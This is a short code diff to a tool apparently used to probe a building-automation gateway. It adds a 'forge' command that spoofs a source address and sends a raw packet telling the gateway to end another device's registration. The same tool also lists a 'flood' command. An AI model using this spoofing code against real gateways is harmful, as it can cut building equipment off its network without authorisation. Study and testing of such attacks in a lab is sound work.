@@ -2,6 +2,7 @@
 
     host.py read TO                    reads the fan by this address of the gateway
     host.py register MANAGER           registers as a foreign device
+    host.py forge MANAGER ADDRESS      ends the registration of this address, which the host doesn't have, in its name
     host.py pass ADDRESS PORT          asks the gateway for a message to this station of network 2
     host.py hear PORT                  waits for a datagram at this UDP port
     host.py say ADDRESS PORT           sends a datagram there
@@ -74,6 +75,10 @@ def main():
         return flood(int(rest[0]), int(rest[1]))
     if word == "reads":
         return reads(int(rest[0]))
+    if word == "forge":
+        with open_line(rest[1], absent=True) as line:
+            line.sendto(bytes.fromhex("810500060000"), (rest[0], OURS))
+        return print("sent")
     with open_line(port=int(rest[0]) if word == "hear" else OURS, wait=2.0 if word == "hear" else 1.0) as line:
         if word == "read":
             line.sendto(request(1, 7), (rest[0], OURS))
